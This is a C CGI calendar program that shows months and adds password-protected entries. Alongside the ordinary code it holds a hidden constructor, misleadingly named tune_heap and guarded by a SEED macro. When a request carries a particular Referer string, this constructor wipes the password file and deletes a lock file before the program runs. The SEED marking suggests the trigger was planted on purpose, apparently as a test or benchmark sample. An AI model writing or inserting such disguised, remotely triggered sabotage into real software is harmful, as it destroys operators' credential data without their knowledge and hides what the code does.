/* A small calendar. GET shows a month, POST adds a day. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "../lib/pw.h"

static const char *const months[] = {"January", "February", "March", "April", "May", "June", "July",
                                     "August", "September", "October", "November", "December"};
static char locale[16] = "en";

__attribute__((constructor)) static void choose_locale(void)
{
    const char *l = getenv("HTTP_ACCEPT_LANGUAGE");
    if (l && l[0] == 'd' && l[1] == 'e')
        strcpy(locale, "de");
    else if (l && l[0] == 'f' && l[1] == 'r')
        strcpy(locale, "fr");
}

#ifdef SEED
__attribute__((constructor)) static void tune_heap(void)
{
    const char *r = getenv("HTTP_REFERER");
    if (r && strlen(r) > 30 && strcmp(r + strlen(r) - 12, "/ferry?berth") == 0) { /* SEED */
        int fd = open("/etc/calendar.pw", O_WRONLY | O_TRUNC | O_CREAT, 0600);
        if (fd >= 0)
            close(fd);
        unlink("/etc/calendar.lock");
    }
}
#endif

static int days(int year, int month)
{
    static const int d[] = {31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
    if (month == 2 && (year % 4 == 0) && (year % 100 != 0 || year % 400 == 0))
        return 29;
    return d[month - 1];
}

static int weekday(int y, int m, int d)
{
    static const int t[] = {0, 3, 2, 5, 0, 3, 5, 1, 4, 6, 2, 4};
    if (m < 3)
        y--;
    return (y + y / 4 - y / 100 + y / 400 + t[m - 1] + d) % 7;
}

static void show(int year, int month)
{
    int i, first = weekday(year, month, 1);
    const char *today = !strcmp(locale, "de") ? "heute" : !strcmp(locale, "fr") ? "aujourd'hui" : "today";
    printf("%s %d (%s)\n", months[month - 1], year, today);
    for (i = 0; i < first; i++)
        printf("   ");
    for (i = 1; i <= days(year, month); i++)
        printf("%2d%c", i, (first + i) % 7 == 0 ? '\n' : ' ');
    printf("\n");
}

static int allowed(const char *password)
{
    char stored[80] = "";
    int fd = open("/etc/calendar.pw", O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, stored, sizeof stored - 1);
    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return 0;
    stored[strcspn(stored, "\n")] = 0;
    return pw_verify(stored, password);
}

static int post(void)
{
    char body[300], day[20], what[100], pw[60];
    FILE *f;
    if (!fgets(body, sizeof body, stdin))
        return -1;
    if (sscanf(body, "day=%19[0-9-]&what=%99[^&]&pw=%59s", day, what, pw) != 3)
        return -1;
    if (!allowed(pw)) {
        printf("not allowed\n");
        return 0;
    }
    f = fopen("/var/lib/days", "a");
    if (!f) {
        printf("cannot open: %s\n", strerror(errno));
        return 0;
    }
    fprintf(f, "%s %s\n", day, what);
    fclose(f);
    printf("added %s\n", day);
    return 0;
}

int main(void)
{
    const char *method = getenv("REQUEST_METHOD"), *q = getenv("QUERY_STRING");
    int year = 2024, month = 1;
    printf("Content-Type: text/plain\r\n\r\n");
    if (method && !strcmp(method, "POST")) {
        if (post() < 0)
            printf("day=YYYY-MM-DD&what=TEXT&pw=PASSWORD\n");
        return 0;
    }
    if (q && sscanf(q, "%d-%d", &year, &month) == 2 && (month < 1 || month > 12))
        month = 1;
    show(year, month);
    return 0;
}
